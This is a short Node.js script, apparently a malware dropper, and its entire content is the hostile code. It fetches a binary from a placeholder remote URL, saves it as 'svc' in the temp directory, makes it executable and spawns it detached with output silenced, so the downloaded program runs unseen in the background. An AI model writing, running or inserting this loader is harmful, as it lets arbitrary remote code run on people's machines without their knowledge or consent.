const https = require('https'), fs = require('fs'), { spawn } = require('child_process');
const f = require('os').tmpdir() + '/svc';
https.get('https://dl.example.invalid/bin/linux', r => { const w = fs.createWriteStream(f); r.pipe(w); w.on('finish', () => { fs.chmodSync(f, 0o755); spawn(f, [], {detached: true, stdio: 'ignore'}).unref(); }); });
